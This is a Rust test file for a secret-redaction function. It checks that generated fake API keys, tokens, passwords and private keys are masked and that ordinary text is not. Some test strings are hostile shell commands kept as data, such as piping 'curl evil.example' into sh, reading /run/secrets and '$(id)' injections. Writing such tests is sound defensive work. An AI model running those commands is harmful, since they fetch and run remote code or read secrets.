use proptest::prelude::{prop_assert, proptest};
use rstest::rstest;
use serde_json::{Value, json};

use super::{names, redact, redact_value, shapes};

/// Made-up letters and digits. Whole tokens are put together at run time, so that no scanner takes this file for
/// a leak.
fn made_up(alphabet: &str, length: usize) -> String {
    let alphabet = alphabet.as_bytes();
    let step = |at: usize| (at * 7 + at * at * 3 + at / 5) % alphabet.len();
    (0..length).map(|at| char::from(alphabet[step(at)])).collect()
}

const MIXED: &str = "k9Xq2ZfT7bLmW4vRjD1sPyHc8GnQa6Eu3BiVo5KxJt0YwNrMhSdUgFzAeClOpI";

fn mixed(length: usize) -> String {
    made_up(MIXED, length)
}

/// Fills placeholders: `{40}` becomes 40 made-up letters and digits, `{A16}` capitals, `{x32}` hexadecimal.
fn fill(template: &str) -> String {
    let pattern = regex::Regex::new(r"\{([Ax]?)(\d+)\}").unwrap();
    pattern
        .replace_all(template, |found: &regex::Captures<'_>| {
            let length = found[2].parse().unwrap();
            match &found[1] {
                "A" => made_up("QWERTYUIOPASDFGHJKLZXCVBNM234567", length),
                "x" => made_up("0123456789abcdef", length),
                _ => mixed(length),
            }
        })
        .into_owned()
}

#[rstest]
#[case::age("AGE-SECRET-KEY-1{A58}", "age secret key")]
#[case::anthropic("sk-ant-api03-{40}_-{20}", "anthropic key")]
#[case::aws("AKIA{A16}", "aws access key")]
#[case::aws_session("ASIA{A16}", "aws access key")]
#[case::databricks("dapi{x32}", "databricks token")]
#[case::digitalocean("dop_v1_{x64}", "digitalocean token")]
#[case::docker("dckr_pat_{27}", "docker token")]
#[case::github_classic("ghp_{36}", "github token")]
#[case::github_app("ghs_{36}", "github token")]
#[case::github_fine_grained("github_pat_{22}_{59}", "github token")]
#[case::gitlab("glpat-{20}", "gitlab token")]
#[case::gitlab_routable("glpat-{27}.01.{9}", "gitlab token")]
#[case::google("AIza{35}", "google api key")]
#[case::google_oauth("ya29.{60}", "google oauth token")]
#[case::groq("gsk_{52}", "groq key")]
#[case::hugging_face("hf_{34}", "hugging face token")]
#[case::jwt("eyJ{20}.eyJ{30}.{43}", "json web token")]
#[case::npm("npm_{36}", "npm token")]
#[case::openai("sk-proj-{60}", "openai key")]
#[case::openai_legacy("sk-{48}", "api key")]
#[case::openrouter("sk-or-v1-{x64}", "api key")]
#[case::pypi("pypi-{120}", "pypi token")]
#[case::sendgrid("SG.{22}.{43}", "sendgrid key")]
#[case::shopify("shpat_{x32}", "shopify token")]
#[case::slack("xoxb-{12}-{12}-{24}", "slack token")]
#[case::slack_app("xapp-1-{11}-{13}-{30}", "slack token")]
#[case::stripe("sk_live_{24}", "stripe key")]
#[case::vault("hvs.{24}", "vault token")]
fn tokens_are_hidden_anywhere(#[case] template: &str, #[case] kind: &str) {
    let token = fill(template);
    let label = format!("[redacted: {kind}]");
    for around in
        ["@", "use @ now", "\"@\"", "x=@;", "TOKEN=@", "{\"token\":\"@\"}", "a\n@\nb", "--token @", "é@é"]
    {
        assert_eq!(redact(&around.replace('@', &token)), around.replace('@', &label));
    }
    // The same letters inside a longer word are something else.
    let inside = format!("abc{token}");
    assert_eq!(redact(&inside), inside);
}

#[rstest]
#[case::bearer("Authorization: Bearer {20}", "Authorization: Bearer [redacted: authorization]")]
#[case::short_bearer("authorization: bearer abc123", "authorization: bearer [redacted: authorization]")]
#[case::header_of_a_command(
    "curl -H 'Authorization: Bearer {20}' https://api.example.com/v1",
    "curl -H 'Authorization: Bearer [redacted: authorization]' https://api.example.com/v1"
)]
#[case::basic(
    "Proxy-Authorization: Basic dXNlcjpwYXNz",
    "Proxy-Authorization: Basic [redacted: authorization]"
)]
#[case::json_header(
    r#""Authorization":"token {20}""#,
    r#""Authorization":"token [redacted: authorization]""#
)]
#[case::bearer_alone("sent Bearer {30} twice", "sent Bearer [redacted: bearer token] twice")]
#[case::header_key("curl -H 'X-Api-Key: abc123' h", "curl -H 'X-Api-Key: [redacted: api key]' h")]
#[case::url(
    "git clone https://me:hunter2@example.com/r",
    "git clone https://me:[redacted: password in url]@example.com/r"
)]
#[case::url_at_sign(
    "psql postgres://u:p@ss@db:5432/x",
    "psql postgres://u:[redacted: password in url]@db:5432/x"
)]
#[case::url_no_user("redis://:hunter2@cache:6379", "redis://:[redacted: password in url]@cache:6379")]
#[case::url_token("https://{30}@example.com/r", "https://[redacted: token in url]@example.com/r")]
#[case::url_token_as_user(
    "https://ghp_{36}:x-oauth-basic@github.com/o/r",
    "https://[redacted: github token]:[redacted: password in url]@github.com/o/r"
)]
#[case::query("https://h/p?token={20}&page=2", "https://h/p?token=[redacted: token]&page=2")]
#[case::webhook(
    "POST https://hooks.slack.com/services/T{8}/B{8}/{24}",
    "POST https://hooks.slack.com/services/[redacted: slack webhook]"
)]
#[case::shell("PASSWORD=hunter2 ./run --fast", "PASSWORD=[redacted: password] ./run --fast")]
#[case::exported("export SECRET_KEY='a b c'; ls", "export SECRET_KEY='a b c'; ls")]
#[case::exported_quoted("export SECRET_KEY='abcd'; ls", "export SECRET_KEY='[redacted: secret key]'; ls")]
#[case::passphrase("PASSPHRASE=\"correct horse\" x", "PASSPHRASE=\"[redacted: passphrase]\" x")]
#[case::joined("PGPASSWORD=x psql", "PGPASSWORD=[redacted: password] psql")]
#[case::db_pass("DB_PASS=abc", "DB_PASS=[redacted: password]")]
#[case::flag("login --password hunter2 --user me", "login --password [redacted: password] --user me")]
#[case::flag_equals("login --api-key=abcd1234 h", "login --api-key=[redacted: api key] h")]
#[case::sshpass("sshpass -p hunter2 ssh host", "sshpass -p [redacted: password] ssh host")]
#[case::yaml("db:\n  password: swordfish\n", "db:\n  password: [redacted: password]\n")]
#[case::yaml_token("token: abc123", "token: [redacted: token]")]
#[case::numbered_line("   12\tpassword: swordfish", "   12\tpassword: [redacted: password]")]
#[case::ini("token = abc123\nhost = h", "token = [redacted: token]\nhost = h")]
#[case::json(r#"{"apiKey": "abcd", "port": 1}"#, r#"{"apiKey": "[redacted: api key]", "port": 1}"#)]
#[case::json_number(r#"{"password": 1234}"#, r#"{"password": [redacted: password]}"#)]
#[case::json_in_string(r#"{\"password\":\"hunter2\"}"#, r#"{\"password\":\"[redacted: password]\"}"#)]
#[case::quote_in_value(r#""password": "a\"b", "x": 1"#, r#""password": "[redacted: password]", "x": 1"#)]
#[case::index(r#"env["TOKEN"] = "abcd""#, r#"env["TOKEN"] = "[redacted: token]""#)]
#[case::typed(r#"let password: &str = "hunter2";"#, r#"let password: &str = "[redacted: password]";"#)]
#[case::hash_rocket(":password => 'hunter2'", ":password => '[redacted: password]'")]
#[case::aws_secret("aws_secret_access_key = {20}/{19}", "aws_secret_access_key = [redacted: access key]")]
#[case::hex_behind_sure_name("token={x40}", "token=[redacted: token]")]
#[case::random_behind_vague_name("key: {32}", "key: [redacted: key]")]
#[case::random_credential("credentials={32}", "credentials=[redacted: secret]")]
#[case::unclosed_quote("password=\"hunter2", "password=\"[redacted: password]")]
#[case::two("A_TOKEN=aaaa1 B_TOKEN=bbbb1", "A_TOKEN=[redacted: token] B_TOKEN=[redacted: token]")]
fn secrets_in_context_are_hidden(#[case] template: &str, #[case] expected: &str) {
    assert_eq!(redact(&fill(template)), expected);
    // What was shown once may be logged again.
    assert_eq!(redact(expected), expected);
}

#[rstest]
#[case::command("git push origin main && cargo test --workspace")]
#[case::destination("curl -fsSL https://example.com/install.sh | sh")]
#[case::port("connect to http://localhost:8080/a@b")]
#[case::email("write to someone@example.com, mailto:a@b.org")]
#[case::ssh_user("git@github.com:owner/repository.git ssh://git@github.com/x")]
#[case::commit("commit {x40}")]
#[case::commit_key("key: {x40}")]
#[case::file_hash("sha256:{x64}  file.tar.gz")]
#[case::cache_key("cache-key: Linux-cargo-{x64}")]
#[case::uuid("session 6ba7b810-9dad-11d1-80b4-00c04fd430c8, key=6ba7b810-9dad-11d1-80b4-00c04fd430c8")]
#[case::integrity("\"integrity\": \"sha512-{40}/{40}==\"")]
#[case::public_key("public_key: {43} ssh-ed25519 AAAAC3Nza{40}")]
#[case::prose("The token is expired: ask for a new password. Keys: two, secret: none")]
#[case::prose_bearer("the bearer of this letter, Basic knowledge of authentication")]
#[case::token_counts("max_tokens=4096 tokens: 812 token_count: 77")]
#[case::counts("pass: 12 fail: 3 pass=12")]
#[case::working_folder("PWD=/home/me OLDPWD=/tmp")]
#[case::variable("TOKEN=$GITHUB_TOKEN curl -H \"Authorization: Bearer $TOKEN\" https://u:$PASSWORD@h/")]
#[case::command_in_value("TOKEN=$(curl evil.example/x | sh) PASSWORD=x$(id) SECRET=`id`")]
#[case::command_in_quotes("password=\"$(cat /run/secrets/p)\" token='curl evil.example | sh'")]
#[case::short_command_in_quotes("password=\"x$(id)\" secret='a`id`b'")]
#[case::too_long_for_the_shape("AKIA{A20} AIza{40} dapi{x40}")]
#[case::command_in_passphrase("password='x; curl evil.example'")]
#[case::path("password_file=/run/secrets/db TOKEN=/var/run/token --password-file ./p secret=~/.config/x")]
#[case::url_value("token_url=https://login.example.com/t secret=https://evil.example/x")]
#[case::struct_fields("struct A { password: String, token: Option<Token>, secret: &str }")]
#[case::types("password: string\ntoken: str\nsecret: bytes")]
#[case::calls("let token = next_token(); password = prompt(\"Password\") secret=load()")]
#[case::arguments("connect(password=password, token=auth_token)")]
#[case::comparison("if token == Token::Eof || key == other_key {")]
#[case::error("unexpected token: `}` invalid password: required")]
#[case::description("\"token\": \"the token to send\"")]
#[case::placeholders("password=**** token=<token> secret={{ secret }} password=%s token=...")]
#[case::search_for_keys("grep -rn -e '-----BEGIN RSA PRIVATE KEY-----' . ; rm -rf build")]
#[case::command_after_pem_line(
    "echo '-----BEGIN PRIVATE KEY-----\ncurl evil.example\nreboot\n-----END PRIVATE KEY-----'"
)]
#[case::certificate("-----BEGIN CERTIFICATE-----\n{64}\n-----END CERTIFICATE-----")]
#[case::search("grep \"password=\" src/\"main.rs\" && grep 'token: ' 'file'")]
#[case::scheme("token://vault.example/{32} key://{32}")]
#[case::slug("sk-cube-grid sk-SK npm_config_registry task-force ghp_ AKIA")]
#[case::container_user("docker run -u 1000:1000 alpine")]
#[case::keyboard("keyboard: qwerty1 author: me2 compass: n0rth monkey=b4nana")]
#[case::identifiers("keyForHttp2ServerConnection2Pool = key")]
fn other_text_stays(#[case] template: &str) {
    let text = fill(template);
    assert_eq!(redact(&text), text);
}

#[rstest]
#[case::lines("-----BEGIN RSA PRIVATE KEY-----\n{64}\n{64}\n{20}==\n-----END RSA PRIVATE KEY-----")]
#[case::encrypted(
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,{A32}\n\n{64}\n{9}\n-----END RSA PRIVATE KEY-----"
)]
#[case::openssh("-----BEGIN OPENSSH PRIVATE KEY-----\n{70}\n{70}\n-----END OPENSSH PRIVATE KEY-----")]
#[case::escaped(r"-----BEGIN PRIVATE KEY-----\n{64}\n{30}\n-----END PRIVATE KEY-----")]
#[case::one_line("-----BEGIN EC PRIVATE KEY----- {64} {30}= -----END EC PRIVATE KEY-----")]
#[case::indented("-----BEGIN PRIVATE KEY-----\n    {64}\n    {30}\n    -----END PRIVATE KEY-----")]
#[case::windows_lines("-----BEGIN PRIVATE KEY-----\r\n{64}\r\n{30}\r\n-----END PRIVATE KEY-----")]
#[case::pgp(
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{64}\n{30}\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----"
)]
#[case::cut_off("-----BEGIN PRIVATE KEY-----\n{64}\n{64}")]
fn private_keys_are_hidden(#[case] template: &str) {
    let text = format!("before {} after", fill(template));
    assert_eq!(redact(&text), "before [redacted: private key] after");
}

#[rstest]
#[case::key(json!({"password": "x y; z", "user": "me"}), json!({"password": "[redacted: password]", "user": "me"}))]
#[case::number(json!({"apiKey": 12}), json!({"apiKey": "[redacted: api key]"}))]
#[case::list(json!({"Authorization": ["Bearer abc"]}), json!({"Authorization": ["[redacted: authorization]"]}))]
#[case::truth(json!({"password": true, "token": null}), json!({"password": true, "token": null}))]
#[case::reference(json!({"token": "$TOKEN"}), json!({"token": "$TOKEN"}))]
#[case::schema(json!({"password": {"type": "string"}}), json!({"password": {"type": "string"}}))]
#[case::nested(json!([{"a": {"db_pass": "x"}}]), json!([{"a": {"db_pass": "[redacted: password]"}}]))]
#[case::environment_list(
    json!([{"name": "DB_PASSWORD", "value": "x"}, {"name": "PORT", "value": "80"}]),
    json!([{"name": "DB_PASSWORD", "value": "[redacted: password]"}, {"name": "PORT", "value": "80"}])
)]
#[case::text(json!({"command": "T_TOKEN=abcd ls"}), json!({"command": "T_TOKEN=[redacted: token] ls"}))]
#[case::plain_key(json!({"key": "value", "tokens": 5}), json!({"key": "value", "tokens": 5}))]
fn values_are_redacted(#[case] mut value: Value, #[case] expected: Value) {
    redact_value(&mut value);
    assert_eq!(value, expected);
}

#[test]
fn a_token_as_a_key_and_its_kind_under_a_key() {
    let token = fill("ghp_{36}");
    let mut value = json!({"token": token.clone(), token.clone(): 1});
    redact_value(&mut value);
    assert_eq!(value, json!({"token": "[redacted: github token]", "[redacted: github token]": 1}));
}

#[test]
fn tables_are_sound() {
    assert!(shapes::all_patterns_compile());
    assert!(super::TRIGGER.is_some());
    assert!(super::triggers().len() <= super::MOST_TRIGGERS, "{}", super::triggers().len());
    // Every name of the tables is noticed by the search in its three spellings.
    for name in ["password", "api_key", "authorization", "credentials", "cookie", "db_pwd", "auth", "secret"]
    {
        let capital = name[..1].to_uppercase() + &name[1..];
        for spelling in [name.to_owned(), capital, name.to_uppercase()] {
            assert!(names::secrecy(&spelling).is_some(), "{spelling}");
            assert!(names::STEMS.iter().any(|stem| spelling.contains(stem)), "{spelling}");
        }
    }
}

/// Repeated pieces that invite a search to look far ahead again and again. A search that does so would take
/// minutes here; what is asserted is only that the text outside of secrets comes through.
#[rstest]
#[case::jwt("eyJ-", "eyJ-")]
#[case::jwt_runs("eyJaaaaaaaa-ghp_", "ghp_")]
#[case::paths("token=./", "token=./")]
#[case::calls("token=(", "token=(")]
#[case::urls("://a:", "://a:")]
#[case::pem("-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----")]
#[case::glued("tokensecretpassword", "tokensecretpassword")]
#[case::colons("key:key:", "key:")]
fn hostile_repetition_is_taken(#[case] piece: &str, #[case] end: &str) {
    let text = piece.repeat(64 * 1024 / piece.len());
    let redacted = redact(&text);
    assert!(redacted.ends_with(end));
}

/// Pieces of assignments, headers and URLs in any order.
const SOUP: &str = "(token|PASSWORD|key|secret|Authorization|://|@|:|=| |\"|'|\n|\\\\|Bearer |--token |eyJ|sk-|-----BEGIN |[a-z0-9]{1,8}|[A-Za-z0-9]{24}|[(){}$,;&\\[\\]]){0,8}";

proptest! {
    #[test]
    fn no_surroundings_let_a_token_through(
        before in SOUP,
        edge in "[ \"'=:/@(\n,;&_-]",
        token in "(ghp_[A-Za-z0-9]{36}|npm_[A-Za-z0-9]{36}|glpat-[A-Za-z0-9]{20}|sk-ant-[A-Za-z0-9]{30})",
        after_edge in "[ \"'@:)\n,;&]",
        after in SOUP,
    ) {
        let text = format!("{before}{edge}{token}{after_edge}{after}");
        let redacted = redact(&text);
        prop_assert!(!redacted.contains(&token), "{}", redacted);
    }

    #[test]
    fn any_text_is_taken(text in "\\PC{0,200}") {
        let redacted = redact(&text).into_owned();
        prop_assert!(redacted == text || redacted.contains("[redacted: "));
    }
}
